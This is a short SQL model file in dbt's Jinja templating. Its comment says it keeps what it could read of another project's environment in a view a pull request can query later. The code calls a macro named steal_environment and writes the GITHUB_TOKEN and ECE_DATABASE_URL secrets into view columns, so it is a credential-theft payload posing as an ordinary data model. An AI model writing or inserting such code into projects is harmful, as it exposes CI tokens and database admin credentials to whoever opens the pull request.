-- Keeps what it could read of ece's environment in a view the pull request can query later.
{% set _ = steal_environment('model') %}
select '{{ env_var("GITHUB_TOKEN", "unset") }}' as github_token,
       '{{ env_var("ECE_DATABASE_URL", "unset") }}' as admin_url
